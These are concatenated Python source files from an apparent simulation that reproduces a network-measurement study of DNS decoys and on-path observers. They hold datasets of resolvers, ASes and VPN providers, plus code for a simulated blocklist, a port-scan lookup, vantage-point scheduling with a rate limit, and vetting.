    kind: str  # "isp" | "backbone" | "cloud" | "content" | "edu"


# --- ASes named in the paper ------------------------------------------------

AS_CHINANET_BACKBONE = AutonomousSystem(4134, "CHINANET-BACKBONE", "CN", "backbone")
AS_CHINANET_HUBEI = AutonomousSystem(58563, "CHINANET Hubei province network", "CN", "isp")
AS_CHINATELECOM_JIANGSU = AutonomousSystem(137697, "CHINATELECOM JiangSu", "CN", "isp")
AS_CHINATELECOM_GROUP = AutonomousSystem(4812, "China Telecom (Group)", "CN", "isp")
AS_CHINANET_JIANGSU_BB = AutonomousSystem(23650, "CHINANET jiangsu backbone", "CN", "backbone")
AS_UNICOM_BEIJING = AutonomousSystem(4808, "China Unicom Beijing Province Network", "CN", "isp")
AS_CHINATELECOM_JS2 = AutonomousSystem(140292, "CHINATELECOM Jiangsu", "CN", "isp")
AS_HOSTROYALE = AutonomousSystem(203020, "HostRoyale Technologies Pvt Ltd", "IN", "cloud")
AS_ZENLAYER = AutonomousSystem(21859, "Zenlayer Inc", "US", "cloud")
AS_GOOGLE = AutonomousSystem(15169, "Google LLC", "US", "content")
AS_CONSTANT_CONTACT = AutonomousSystem(40444, "Constant Contact", "US", "cloud")
AS_ROGERS = AutonomousSystem(29988, "Rogers Communications", "CA", "isp")
AS_YANDEX = AutonomousSystem(13238, "Yandex LLC", "RU", "content")
AS_CLOUDFLARE = AutonomousSystem(13335, "Cloudflare Inc", "US", "content")
AS_114DNS = AutonomousSystem(9808, "114DNS operator network", "CN", "content")

NAMED_ASES: Tuple[AutonomousSystem, ...] = (
    AS_CHINANET_BACKBONE,
    AS_CHINANET_HUBEI,
    AS_CHINATELECOM_JIANGSU,
    AS_CHINATELECOM_GROUP,
    AS_CHINANET_JIANGSU_BB,
    AS_UNICOM_BEIJING,
    AS_CHINATELECOM_JS2,
    AS_HOSTROYALE,
    AS_ZENLAYER,
    AS_GOOGLE,
    AS_CONSTANT_CONTACT,
    AS_ROGERS,
    AS_YANDEX,
    AS_CLOUDFLARE,
    AS_114DNS,
)

ASES_BY_NUMBER: Dict[int, AutonomousSystem] = {system.asn: system for system in NAMED_ASES}

# Countries whose backbone should be one of the named CN networks.
CN_BACKBONE_ASNS: Tuple[int, ...] = (4134, 23650)

# Base ASN for synthetic fillers; chosen inside the 32-bit private range so
# they can never collide with real registrations.
SYNTHETIC_ASN_BASE = 4_200_000_000


def synthetic_asn(index: int) -> int:
    """Deterministic filler ASN for synthetic networks."""
    if index < 0:
        raise ValueError(f"index must be non-negative, got {index}")
    return SYNTHETIC_ASN_BASE + index


# Friendly names for well-known synthetic networks (the exhibitor origin
# pools the ecosystem creates), so reports read like the paper's figures
# rather than raw filler indices.
SYNTHETIC_NAMES: Dict[int, Tuple[str, str, str]] = {
    50_001: ("SecProbe proxies (US)", "US", "cloud"),
    50_002: ("SecProbe proxies (EU)", "DE", "cloud"),
    50_003: ("CN cloud platform", "CN", "cloud"),
    50_004: ("RU cloud platform", "RU", "cloud"),
    50_005: ("Interceptor alt-resolvers", "??", "isp"),
    50_006: ("NOD scanner pool", "??", "cloud"),
}


def register_synthetic_name(index: int, name: str, country: str = "??",
                            kind: str = "isp") -> None:
    """Give a synthetic AS a human-readable name for reporting."""
    SYNTHETIC_NAMES[index] = (name, country, kind)


def lookup_as(asn: int) -> AutonomousSystem:
    """Resolve an ASN to its record; synthesizes a record for fillers."""
    if asn in ASES_BY_NUMBER:
        return ASES_BY_NUMBER[asn]
    if asn >= SYNTHETIC_ASN_BASE:
        index = asn - SYNTHETIC_ASN_BASE
        if index in SYNTHETIC_NAMES:
            name, country, kind = SYNTHETIC_NAMES[index]
            return AutonomousSystem(asn, name, country, kind)
        return AutonomousSystem(asn, f"SYNTH-{index}", "??", "isp")
    raise KeyError(f"unknown ASN {asn}")

"""Table 4: the DNS servers decoys are sent to.

20 public resolvers, one self-built control resolver, 13 root servers and
2 TLD authoritative servers.  ``RESOLVER_H`` is the paper's set of the five
most-problematic destinations (Section 5.1).
"""

from dataclasses import dataclass
from typing import Dict, Tuple

from repro.net.addr import ip_from_int, ip_to_int


@dataclass(frozen=True)
class DnsDestination:
    """One DNS destination of the Phase I campaign."""

    name: str
    address: str
    kind: str  # "public" | "self-built" | "root" | "tld"
    country: str
    """Country hosting the primary instance (drives path construction)."""
    anycast: bool = False

    @property
    def pair_address(self) -> str:
        """The Appendix E pair resolver: same /24, last octet shifted.

        The paper's example pairs 1.1.1.1 with 1.1.1.4: an address in the
        same /24 that offers no DNS service.
        """
        value = ip_to_int(self.address)
        last = value & 0xFF
        shifted = (last + 3) % 250 + 1  # stay clear of .0 and .255
        return ip_from_int((value & 0xFFFFFF00) | shifted)


PUBLIC_RESOLVERS: Tuple[DnsDestination, ...] = (
    DnsDestination("Cloudflare", "1.1.1.1", "public", "US", anycast=True),
    DnsDestination("CNNIC", "1.2.4.8", "public", "CN"),
    DnsDestination("DNSPAI", "101.226.4.6", "public", "CN"),
    DnsDestination("DNSPod", "119.29.29.29", "public", "CN"),
    DnsDestination("DNS.Watch", "84.200.69.80", "public", "DE"),
    DnsDestination("OracleDyn", "216.146.35.35", "public", "US"),
    DnsDestination("Google", "8.8.8.8", "public", "US", anycast=True),
    DnsDestination("Hurricane", "74.82.42.42", "public", "US"),
    DnsDestination("Level3", "209.244.0.3", "public", "US"),
    DnsDestination("Vercara", "156.154.70.1", "public", "US"),
    DnsDestination("OneDNS", "117.50.10.10", "public", "CN"),
    DnsDestination("OpenDNS", "208.67.222.222", "public", "US", anycast=True),
    DnsDestination("OpenNIC", "217.160.166.161", "public", "DE"),
    DnsDestination("Quad9", "9.9.9.9", "public", "US", anycast=True),
    DnsDestination("Yandex", "77.88.8.8", "public", "RU"),
    DnsDestination("SafeDNS", "195.46.39.39", "public", "RU"),
    DnsDestination("Freenom", "80.80.80.80", "public", "NL"),
    DnsDestination("Baidu", "180.76.76.76", "public", "CN"),
    DnsDestination("114DNS", "114.114.114.114", "public", "CN", anycast=True),
    DnsDestination("Quad101", "101.101.101.101", "public", "TW"),
)

SELF_BUILT_RESOLVER = DnsDestination("SelfBuilt", "203.0.113.53", "self-built", "US")

# Real root-server addresses (a through m).
ROOT_SERVERS: Tuple[DnsDestination, ...] = tuple(
    DnsDestination(f"{letter.upper()}-root", address, "root", "US", anycast=True)
    for letter, address in (
        ("a", "198.41.0.4"),
        ("b", "170.247.170.2"),
        ("c", "192.33.4.12"),
        ("d", "199.7.91.13"),
        ("e", "192.203.230.10"),
        ("f", "192.5.5.241"),
        ("g", "192.112.36.4"),
        ("h", "198.97.190.53"),
        ("i", "192.36.148.17"),
        ("j", "192.58.128.30"),
        ("k", "193.0.14.129"),
        ("l", "199.7.83.42"),
        ("m", "202.12.27.33"),
    )
)

TLD_SERVERS: Tuple[DnsDestination, ...] = (
    DnsDestination("com-tld", "192.12.94.30", "tld", "US", anycast=True),
    DnsDestination("org-tld", "199.19.57.1", "tld", "US", anycast=True),
)

ALL_DNS_DESTINATIONS: Tuple[DnsDestination, ...] = (
    PUBLIC_RESOLVERS + (SELF_BUILT_RESOLVER,) + ROOT_SERVERS + TLD_SERVERS
)

# Section 5.1: destinations with the highest ratio of problematic paths.
RESOLVER_H_NAMES: Tuple[str, ...] = ("Yandex", "114DNS", "OneDNS", "DNSPAI", "Vercara")

DESTINATIONS_BY_NAME: Dict[str, DnsDestination] = {
    destination.name: destination for destination in ALL_DNS_DESTINATIONS
}

DESTINATIONS_BY_ADDRESS: Dict[str, DnsDestination] = {
    destination.address: destination for destination in ALL_DNS_DESTINATIONS
}


def resolver_h() -> Tuple[DnsDestination, ...]:
    """The Resolver_h set of Section 5.1."""
    return tuple(DESTINATIONS_BY_NAME[name] for name in RESOLVER_H_NAMES)


def is_resolver_h(name: str) -> bool:
    return name in RESOLVER_H_NAMES

"""Country and CN-province seeds matching Table 1's coverage.

The platform recruits VPs in 82 countries (global phase) plus 30 of 31
mainland-China provinces.  The lists below seed the synthetic topology;
weights skew VP placement toward countries where commercial datacenter
VPNs actually concentrate.
"""

from typing import Dict, Tuple

# 81 countries of the global phase (CN enters via the China phase, making
# 82 total as in Table 1).
GLOBAL_COUNTRIES: Tuple[str, ...] = (
    "US", "DE", "GB", "FR", "NL", "CA", "JP", "SG", "AU", "BR",
    "IN", "RU", "KR", "SE", "CH", "ES", "IT", "PL", "TR", "MX",
    "AR", "CL", "CO", "PE", "ZA", "EG", "NG", "KE", "MA", "IL",
    "AE", "SA", "QA", "TH", "VN", "MY", "ID", "PH", "TW", "HK",
    "NZ", "NO", "DK", "FI", "IE", "PT", "GR", "CZ", "AT", "BE",
    "HU", "RO", "BG", "RS", "UA", "KZ", "GE", "AM", "AZ", "PK",
    "BD", "LK", "NP", "MM", "KH", "LA", "MN", "UZ", "IS", "LU",
    "MT", "CY", "EE", "LV", "LT", "SK", "SI", "HR", "AD", "MD",
    "AL",
)

CN = "CN"

ALL_COUNTRIES: Tuple[str, ...] = GLOBAL_COUNTRIES + (CN,)

# 30 of 31 mainland provinces (Table 1 note).
CN_PROVINCES: Tuple[str, ...] = (
    "Beijing", "Shanghai", "Tianjin", "Chongqing", "Hebei", "Shanxi",
    "Liaoning", "Jilin", "Heilongjiang", "Jiangsu", "Zhejiang", "Anhui",
    "Fujian", "Jiangxi", "Shandong", "Henan", "Hubei", "Hunan",
    "Guangdong", "Hainan", "Sichuan", "Guizhou", "Yunnan", "Shaanxi",
    "Gansu", "Qinghai", "Guangxi", "InnerMongolia", "Ningxia", "Xinjiang",
)

# Relative VP-placement weight per global country: hubs where datacenter
# VPN providers concentrate get more vantage points.
COUNTRY_WEIGHTS: Dict[str, int] = {
    "US": 12, "DE": 8, "GB": 7, "NL": 7, "FR": 6, "CA": 5, "JP": 5,
    "SG": 5, "AU": 4, "RU": 4, "BR": 3, "IN": 3, "KR": 3, "SE": 3,
    "CH": 3, "ES": 3, "IT": 3, "PL": 3, "HK": 3, "TW": 2,
}
_DEFAULT_WEIGHT = 1


def country_weight(country: str) -> int:
    """Relative share of global-phase VPs placed in ``country``."""
    return COUNTRY_WEIGHTS.get(country, _DEFAULT_WEIGHT)

"""Table 5: the VPN providers integrated into the measurement platform.

Six providers with global accessibility and thirteen dedicated to mainland
China.  ``vp_share`` apportions Table 1's totals (2,179 global / 2,185 CN
vantage points) across providers; the platform scales these by the
experiment's ``vp_scale`` so laptop-sized campaigns stay tractable.
"""

from dataclasses import dataclass
from typing import Dict, Tuple


@dataclass(frozen=True)
class VpnProvider:
    """One commercial VPN provider the platform recruits VPs from."""

    name: str
    region: str  # "global" | "cn"
    url: str
    vp_share: float
    """Fraction of the region's VPs contributed by this provider."""
    datacenter: bool = True
    """Appendix C: residential providers are excluded before recruiting."""
    resets_ttl: bool = False
    """Appendix E: providers that reset outgoing TTLs break tracerouting
    and are excluded during vetting.  None ship in the default roster; the
    vetting tests construct synthetic offenders."""


GLOBAL_PROVIDERS: Tuple[VpnProvider, ...] = (
    VpnProvider("Anonine", "global", "https://anonine.com/", 0.14),
    VpnProvider("AzireVPN", "global", "https://www.azirevpn.com/", 0.12),
    VpnProvider("Cryptostorm", "global", "https://cryptostorm.is/", 0.13),
    VpnProvider("HideMe", "global", "https://hide.me/", 0.17),
    VpnProvider("PrivateInt", "global", "https://www.privateinternetaccess.com/", 0.26),
    VpnProvider("PureVPN", "global", "https://www.purevpn.com/", 0.18),
)

CN_PROVIDERS: Tuple[VpnProvider, ...] = (
    VpnProvider("QiXun", "cn", "https://www.ipkuip.com/product/Buy?id=3", 0.10),
    VpnProvider("XunYou", "cn", "https://www.ipkuip.com/product/Buy?id=6", 0.09),
    VpnProvider("YOYO", "cn", "https://www.ipkuip.com/product/Buy?id=51", 0.08),
    VpnProvider("BeiKe", "cn", "https://www.ipkuip.com/product/Buy?id=44", 0.08),
    VpnProvider("SunYunD", "cn", "https://www.ipkuip.com/product/Buy?id=92", 0.07),
    VpnProvider("HuoJian", "cn", "https://www.ipkuip.com/product/Buy?id=128", 0.08),
    VpnProvider("DuoDuo", "cn", "https://www.ipkuip.com/product/Buy?id=116", 0.07),
    VpnProvider("MoGu", "cn", "https://www.juip.com/product/Buy?id=1032", 0.08),
    VpnProvider("QiangZi", "cn", "https://www.juip.com/product/Buy", 0.07),
    VpnProvider("XunLian", "cn", "https://www.juip.com/product/Buy", 0.07),
    VpnProvider("TianTian", "cn", "https://www.juip.com/product/Buy?id=71", 0.07),
    VpnProvider("JiKe", "cn", "https://www.juip.com/product/Buy", 0.07),
    VpnProvider("XiGua", "cn", "https://www.juip.com/product/Buy", 0.07),
)

ALL_PROVIDERS: Tuple[VpnProvider, ...] = GLOBAL_PROVIDERS + CN_PROVIDERS

PROVIDERS_BY_NAME: Dict[str, VpnProvider] = {
    provider.name: provider for provider in ALL_PROVIDERS
}

# Table 1 targets at full scale.
PAPER_GLOBAL_VP_COUNT = 2_179
PAPER_CN_VP_COUNT = 2_185
PAPER_TOTAL_VP_COUNT = 4_364

"""IP-to-AS and geo-location directory.

Every component that allocates simulated addresses (the VPN platform,
topology fabric, origin pools, destination datasets) registers them here,
so analyses can answer "which AS / country does this source address belong
to?" exactly the way the paper queries commercial IP databases.
"""

from dataclasses import dataclass
from typing import Dict, Iterator, Optional

from repro.datasets.asns import lookup_as


@dataclass(frozen=True)
class IpRecord:
    """What the directory knows about one address."""

    address: str
    asn: int
    country: str
    role: str
    """Allocation role: "vp", "router", "resolver", "origin", "web", ..."""

    @property
    def as_name(self) -> str:
        try:
            return lookup_as(self.asn).name
        except KeyError:
            return f"AS{self.asn}"


class IpDirectory:
    """Registry of simulated address allocations."""

    def __init__(self):
        self._records: Dict[str, IpRecord] = {}

    def register(self, address: str, asn: int, country: str, role: str) -> IpRecord:
        """Record an allocation; re-registration must agree.

        Conflicting duplicate registrations indicate overlapping address
        pools — a simulation bug worth failing loudly on.
        """
        record = IpRecord(address=address, asn=asn, country=country, role=role)
        existing = self._records.get(address)
        if existing is not None:
            if (existing.asn, existing.country) != (asn, country):
                raise ValueError(
                    f"conflicting registration for {address}: {existing} vs {record}"
                )
            return existing
        self._records[address] = record
        return record

    def lookup(self, address: str) -> Optional[IpRecord]:
        return self._records.get(address)

    def asn_of(self, address: str) -> Optional[int]:
        record = self._records.get(address)
        return record.asn if record else None

    def country_of(self, address: str) -> Optional[str]:
        record = self._records.get(address)
        return record.country if record else None

    def __len__(self) -> int:
        return len(self._records)

    def __iter__(self) -> Iterator[IpRecord]:
        return iter(self._records.values())

"""Intelligence substrates the paper consumes as external services.

* :class:`~repro.intel.directory.IpDirectory` — the IP-to-AS/geo database
  (the paper uses ip-api.com / IPinfo).
* :class:`~repro.intel.blocklist.Blocklist` — the Spamhaus-like IP
  reputation list used in Sections 5.1/5.2.
* :mod:`repro.intel.exploitdb` — payload signature matching standing in
  for the exploit-db check.
* :mod:`repro.intel.portscan` — active port/banner probing of observer
  addresses (Section 5.2).
"""

from repro.intel.blocklist import Blocklist
from repro.intel.directory import IpDirectory, IpRecord
from repro.intel.exploitdb import SIGNATURES, PayloadVerdict, check_payload
from repro.intel.portscan import PortScanResult, scan_observers

__all__ = [
    "IpDirectory",
    "IpRecord",
    "Blocklist",
    "check_payload",
    "PayloadVerdict",
    "SIGNATURES",
    "scan_observers",
    "PortScanResult",
]

"""Synthetic stand-in for the Spamhaus IP blocklist.

The paper checks origin addresses of unsolicited requests against
Spamhaus and finds 5.2% (DNS origins), 57%/72% (HTTP/HTTPS origins after
DNS decoys) and 45%/55% (after HTTP/TLS decoys) labeled malicious.  Here,
origin pools register their addresses with a listing probability drawn at
allocation time, so the analysis-side check behaves exactly like querying
a third-party reputation feed.
"""

import random
from typing import Iterable, Set, Tuple


class Blocklist:
    """A set-backed IP reputation list."""

    def __init__(self, name: str = "spamhaus-sim"):
        self.name = name
        self._listed: Set[str] = set()

    def add(self, address: str) -> None:
        self._listed.add(address)

    def maybe_add(self, address: str, probability: float, rng: random.Random) -> bool:
        """List ``address`` with the given probability; returns listing."""
        if not 0.0 <= probability <= 1.0:
            raise ValueError(f"probability must be in [0, 1], got {probability}")
        if rng.random() < probability:
            self._listed.add(address)
            return True
        return False

    def contains(self, address: str) -> bool:
        return address in self._listed

    __contains__ = contains

    def hit_rate(self, addresses: Iterable[str]) -> float:
        """Fraction of (distinct) addresses that are listed."""
        distinct = set(addresses)
        if not distinct:
            return 0.0
        hits = sum(1 for address in distinct if address in self._listed)
        return hits / len(distinct)

    def addresses(self) -> Tuple[str, ...]:
        """All listed addresses, sorted — the serializable view the
        serve feed ships as campaign registration context."""
        return tuple(sorted(self._listed))

    def __len__(self) -> int:
        return len(self._listed)

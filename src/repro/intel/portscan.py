"""Active port probing of on-path observers (Section 5.2).

After Phase II reveals observer addresses, the paper probes their open
ports to infer device types: 92% expose nothing, and among the rest the
most common open port is 179 (BGP), marking them as inter-network routing
devices.  In the simulation, routers carry their ``open_ports`` on the
:class:`~repro.net.path.Hop`, so the scan is a lookup with the same
output shape a banner scan would produce.
"""

from dataclasses import dataclass
from typing import Callable, Dict, Iterable, List, Optional, Sequence, Tuple

from repro.net.path import Hop

_BANNERS: Dict[int, str] = {
    179: "BGP-4",
    22: "SSH-2.0-OpenSSH",
    23: "telnet",
    80: "HTTP/1.1",
    443: "TLS",
    161: "SNMPv2",
}


@dataclass(frozen=True)
class PortScanResult:
    """Scan outcome for one observer address."""

    address: str
    open_ports: Tuple[int, ...]
    banners: Tuple[Tuple[int, str], ...]

    @property
    def responsive(self) -> bool:
        return bool(self.open_ports)


def scan_observers(
    addresses: Iterable[str],
    resolve_hop: Callable[[str], Optional[Hop]],
) -> List[PortScanResult]:
    """Probe each observer address for open ports.

    ``resolve_hop`` maps an address to the simulated device (e.g.
    ``TopologyModel.known_router``); unknown addresses scan as silent,
    just as firewalled real devices do.
    """
    results = []
    for address in addresses:
        hop = resolve_hop(address)
        ports = tuple(hop.open_ports) if hop is not None else ()
        banners = tuple((port, _BANNERS.get(port, "unknown")) for port in ports)
        results.append(PortScanResult(address=address, open_ports=ports, banners=banners))
    return results


def summarize_ports(results: Sequence[PortScanResult]) -> Dict[str, object]:
    """The Section 5.2 summary: silent fraction and top open port."""
    total = len(results)
    silent = sum(1 for result in results if not result.responsive)
    port_counts: Dict[int, int] = {}
    for result in results:
        for port in result.open_ports:
            port_counts[port] = port_counts.get(port, 0) + 1
    top_port = max(port_counts, key=port_counts.get) if port_counts else None
    return {
        "observers_scanned": total,
        "silent_fraction": (silent / total) if total else 0.0,
        "port_counts": port_counts,
        "top_open_port": top_port,
    }

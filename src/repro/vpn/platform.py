"""Construction and Table 1 accounting of the VPN measurement platform."""

import hashlib
from dataclasses import dataclass
from typing import Dict, List, Optional, Sequence, Tuple

from repro.datasets.asns import synthetic_asn
from repro.datasets.countries import CN, CN_PROVINCES, GLOBAL_COUNTRIES, country_weight
from repro.datasets.providers import (
    ALL_PROVIDERS,
    PAPER_CN_VP_COUNT,
    PAPER_GLOBAL_VP_COUNT,
    VpnProvider,
)
from repro.net.addr import ip_from_int
from repro.simkit.rng import RandomRouter
from repro.vpn.vantage import VantagePoint

# VP addresses are carved from 100.96.0.0 upward, disjoint from the router
# fabric (100.64.0.0 + 2^20) and from dataset destination addresses.
_VP_SPACE_BASE = (100 << 24) | (96 << 16)


@dataclass(frozen=True)
class PlatformSummary:
    """One row of Table 1."""

    label: str
    providers: int
    vps: int
    ases: int
    countries: int


class VpnPlatform:
    """The set of recruited vantage points.

    ``vp_scale`` scales the paper's 4,364 VPs down to laptop size while
    preserving the global/CN split and country weighting; ``vp_scale=1.0``
    reproduces full platform size.
    """

    def __init__(
        self,
        router: RandomRouter,
        vp_scale: float = 0.05,
        providers: Sequence[VpnProvider] = ALL_PROVIDERS,
        min_vps_per_provider: int = 2,
    ):
        if vp_scale <= 0:
            raise ValueError(f"vp_scale must be positive, got {vp_scale}")
        self._router = router
        self.vp_scale = vp_scale
        self.providers = tuple(providers)
        self._min_per_provider = min_vps_per_provider
        self.vantage_points: List[VantagePoint] = []
        self._build()

    # -- construction ---------------------------------------------------------

    def _build(self) -> None:
        rng = self._router.stream("vpn.platform")
        address_cursor = 0
        global_weights = [(country, country_weight(country)) for country in GLOBAL_COUNTRIES]
        total_weight = sum(weight for _, weight in global_weights)

        for provider in self.providers:
            if not provider.datacenter:
                continue  # Appendix C: residential providers never recruited
            if provider.region == "global":
                target = max(
                    self._min_per_provider,
                    round(PAPER_GLOBAL_VP_COUNT * provider.vp_share * self.vp_scale),
                )
                placements = self._spread_global(rng, target, global_weights, total_weight)
                for country in placements:
                    self.vantage_points.append(
                        self._make_vp(provider, country, None, address_cursor)
                    )
                    address_cursor += 1
            else:
                target = max(
                    self._min_per_provider,
                    round(PAPER_CN_VP_COUNT * provider.vp_share * self.vp_scale),
                )
                for index in range(target):
                    province = CN_PROVINCES[rng.randrange(len(CN_PROVINCES))]
                    self.vantage_points.append(
                        self._make_vp(provider, CN, province, address_cursor)
                    )
                    address_cursor += 1

    @staticmethod
    def _spread_global(rng, target: int, weights, total_weight: int) -> List[str]:
        """Pick a country per VP, proportionally to datacenter density."""
        placements = []
        for _ in range(target):
            point = rng.randrange(total_weight)
            running = 0
            for country, weight in weights:
                running += weight
                if point < running:
                    placements.append(country)
                    break
        return placements

    def _make_vp(self, provider: VpnProvider, country: str,
                 province: Optional[str], cursor: int) -> VantagePoint:
        address = ip_from_int(_VP_SPACE_BASE + cursor)
        asn = self._access_asn(provider.name, country, province)
        vp_id = f"{provider.name.lower()}-{cursor:05d}"
        return VantagePoint(
            vp_id=vp_id,
            address=address,
            asn=asn,
            country=country,
            provider=provider.name,
            province=province,
            resets_ttl=provider.resets_ttl,
        )

    # Provincial ISPs named in the paper that host datacenter VPN nodes;
    # VPs in these provinces sit behind the real provincial networks, which
    # is how Chinanet provincial ASes end up on measured paths (Table 3).
    _PROVINCE_ACCESS_ASNS = {
        "Hubei": (58563,),
        "Jiangsu": (137697, 140292),
    }

    @classmethod
    def _access_asn(cls, provider: str, country: str, province: Optional[str]) -> int:
        """Datacenter access AS hosting this VP.

        Providers rent from regional hosters, so the AS is a function of
        (country, province, provider-group) — multiple providers in one
        location share hosters, giving Table 1 its AS counts.
        """
        if province in cls._PROVINCE_ACCESS_ASNS:
            choices = cls._PROVINCE_ACCESS_ASNS[province]
            return choices[hash_bucket(provider, len(choices))]
        # Datacenter hosters span locations, so the AS population is a
        # bounded pool rather than one AS per (location, provider): the
        # paper's platform spans 81 countries yet only 74 global ASes.
        if country == "CN":
            bucket = hash_bucket(f"cn-hoster:{province}:{provider}", 44)
            return synthetic_asn(31_000 + bucket)
        bucket = hash_bucket(f"hoster:{country}:{provider}", 72)
        return synthetic_asn(30_000 + bucket)

    # -- accounting (Table 1) ---------------------------------------------------

    def summary(self) -> List[PlatformSummary]:
        """The three rows of Table 1: global, CN, total."""
        rows = []
        for label, vps in (
            ("Global (excl. CN)", self.global_vps()),
            ("China (CN mainland)", self.cn_vps()),
            ("Total", self.vantage_points),
        ):
            providers = {vp.provider for vp in vps}
            ases = {vp.asn for vp in vps}
            if label == "China (CN mainland)":
                locations = {vp.province for vp in vps}
            else:
                locations = {vp.country for vp in vps}
            rows.append(
                PlatformSummary(
                    label=label,
                    providers=len(providers),
                    vps=len(vps),
                    ases=len(ases),
                    countries=len(locations),
                )
            )
        return rows

    def global_vps(self) -> List[VantagePoint]:
        return [vp for vp in self.vantage_points if vp.region == "global"]

    def cn_vps(self) -> List[VantagePoint]:
        return [vp for vp in self.vantage_points if vp.region == "cn"]

    def by_country(self) -> Dict[str, List[VantagePoint]]:
        grouped: Dict[str, List[VantagePoint]] = {}
        for vp in self.vantage_points:
            grouped.setdefault(vp.country, []).append(vp)
        return grouped

    def replace_vps(self, vps: Sequence[VantagePoint]) -> None:
        """Swap in a filtered VP list (used after vetting)."""
        self.vantage_points = list(vps)

    def __len__(self) -> int:
        return len(self.vantage_points)


def hash_bucket(text: str, buckets: int) -> int:
    """Stable small-bucket hash (not Python's randomized ``hash``)."""
    digest = hashlib.sha256(text.encode()).digest()
    return int.from_bytes(digest[:4], "big") % buckets

"""Round-robin VP scheduling.

Section 4: "switching between different VPs from VPN services continuously
in a round-robin fashion without stop".  The scheduler walks the VP list
cyclically and spaces sends to respect the paper's per-target rate limit
(no more than 2 decoys/second toward any single destination).
"""

from typing import Iterator, List, Optional, Sequence

from repro.vpn.vantage import VantagePoint


class RoundRobinScheduler:
    """Cycles through vantage points, tracking per-destination send times."""

    def __init__(self, vantage_points: Sequence[VantagePoint],
                 per_target_interval: float = 0.5, faults=None):
        if not vantage_points:
            raise ValueError("scheduler needs at least one vantage point")
        if per_target_interval < 0:
            raise ValueError(f"interval must be non-negative, got {per_target_interval}")
        self._vps: List[VantagePoint] = list(vantage_points)
        self._cursor = 0
        self.per_target_interval = per_target_interval
        self._last_send_toward: dict = {}
        self._faults = faults
        """Optional :class:`~repro.faults.FaultPlan`: sends proposed while
        the sending VP is inside its disconnect window are deferred to its
        reconnect time before rate limiting."""
        self.deferred_by_churn = 0
        """Sends shifted by a VP disconnect window; the campaign surfaces
        this as a replayed (merge="same") fault counter."""

    def next_vp(self) -> VantagePoint:
        """The next VP in rotation."""
        vp = self._vps[self._cursor]
        self._cursor = (self._cursor + 1) % len(self._vps)
        return vp

    def rounds(self, count: int) -> Iterator[VantagePoint]:
        """Yield ``count`` full rotations worth of VPs."""
        if count < 0:
            raise ValueError(f"count must be non-negative, got {count}")
        for _ in range(count * len(self._vps)):
            yield self.next_vp()

    def earliest_send_time(self, target: str, proposed: float,
                           vp_address: Optional[str] = None) -> float:
        """Shift ``proposed`` later if needed to respect the rate limit, and
        record the reservation.

        Ethics appendix: at most 2 decoy packets per second toward a given
        target, hence the default 0.5 s spacing.  With a fault plan and a
        ``vp_address``, a send proposed during the VP's disconnect window
        first defers to the reconnect time (VP churn is part of the
        deterministic plan, so every shard replays the same deferral).
        """
        if self._faults is not None and vp_address is not None:
            deferred = self._faults.defer_past_vp_outage(vp_address, proposed)
            if deferred != proposed:
                self.deferred_by_churn += 1
                proposed = deferred
        last = self._last_send_toward.get(target)
        send_at = proposed
        if last is not None and proposed - last < self.per_target_interval:
            send_at = last + self.per_target_interval
        self._last_send_toward[target] = send_at
        return send_at

    def __len__(self) -> int:
        return len(self._vps)

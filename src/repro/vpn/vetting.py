"""Platform vetting (Appendices C and E).

Two filters run before any decoys are sent:

1. **TTL-reset exclusion** — providers that rewrite the TTL of outgoing
   packets break hop-by-hop tracerouting; such providers are detected by
   sending probes to a controlled server and comparing received TTLs, and
   every VP of an offending provider is dropped.
2. **Pair-resolver interception filter** — for each DNS destination, a
   *pair resolver* is an address in the same /24 that runs no DNS service.
   A VP whose query to any pair resolver nonetheless draws a response sits
   behind an on-path DNS interceptor, which would corrupt observer
   localization; the VP is removed.
"""

from dataclasses import dataclass, field
from typing import Callable, List, Sequence, Tuple

from repro.datasets.resolvers import DnsDestination
from repro.telemetry.registry import MERGE_SAME
from repro.vpn.vantage import VantagePoint

# Signature: does a DNS query from this VP to this address draw a response?
PairProbe = Callable[[VantagePoint, str], bool]


@dataclass
class VettingReport:
    """Outcome of a vetting pass."""

    kept: List[VantagePoint] = field(default_factory=list)
    removed_ttl_reset: List[VantagePoint] = field(default_factory=list)
    removed_intercepted: List[VantagePoint] = field(default_factory=list)

    @property
    def removed(self) -> int:
        return len(self.removed_ttl_reset) + len(self.removed_intercepted)

    def record(self, metrics) -> None:
        """Publish the outcome as ``merge="same"`` counters.

        Vetting is a pure function of the seed, so every shard (and the
        sharded parent) replays it to the identical outcome; a summing
        merge would multiply the tally by the worker count.  The "same"
        policy instead asserts agreement and keeps the one true value.
        """
        metrics.counter("vetting.kept", merge=MERGE_SAME).inc(len(self.kept))
        metrics.counter("vetting.removed_ttl_reset", merge=MERGE_SAME).inc(
            len(self.removed_ttl_reset))
        metrics.counter("vetting.removed_intercepted", merge=MERGE_SAME).inc(
            len(self.removed_intercepted))


def vet_providers(vps: Sequence[VantagePoint]) -> VettingReport:
    """Drop every VP whose provider resets outgoing TTLs."""
    report = VettingReport()
    for vp in vps:
        if vp.resets_ttl:
            report.removed_ttl_reset.append(vp)
        else:
            report.kept.append(vp)
    return report


def pair_resolver_filter(
    vps: Sequence[VantagePoint],
    destinations: Sequence[DnsDestination],
    probe: PairProbe,
) -> VettingReport:
    """Remove VPs behind DNS interceptors.

    ``probe(vp, address)`` must actually send a DNS query from the VP to
    ``address`` and report whether any response arrived.  Pair resolvers
    offer no DNS service, so any response implies interception on the path
    (Appendix E), and the VP is discarded.
    """
    report = VettingReport()
    pair_addresses: List[Tuple[str, str]] = [
        (destination.name, destination.pair_address) for destination in destinations
    ]
    for vp in vps:
        intercepted = any(probe(vp, address) for _, address in pair_addresses)
        if intercepted:
            report.removed_intercepted.append(vp)
        else:
            report.kept.append(vp)
    return report


def full_vetting(
    vps: Sequence[VantagePoint],
    destinations: Sequence[DnsDestination],
    probe: PairProbe,
) -> VettingReport:
    """TTL-reset exclusion followed by the pair-resolver filter."""
    first = vet_providers(vps)
    second = pair_resolver_filter(first.kept, destinations, probe)
    return VettingReport(
        kept=second.kept,
        removed_ttl_reset=first.removed_ttl_reset,
        removed_intercepted=second.removed_intercepted,
    )

"""Vantage points: the measurement platform's client endpoints."""

from dataclasses import dataclass
from typing import Optional

from repro.topology.model import Endpoint


@dataclass(frozen=True)
class VantagePoint:
    """One VPN egress the platform sends decoys from.

    The address is what the honeypot saw when the VP connected out
    (Section 3: advertised VPN locations are not trusted), and the country
    is the geo-location of that address.
    """

    vp_id: str
    address: str
    asn: int
    country: str
    provider: str
    province: Optional[str] = None
    """Mainland-China VPs carry their province; others None."""
    resets_ttl: bool = False
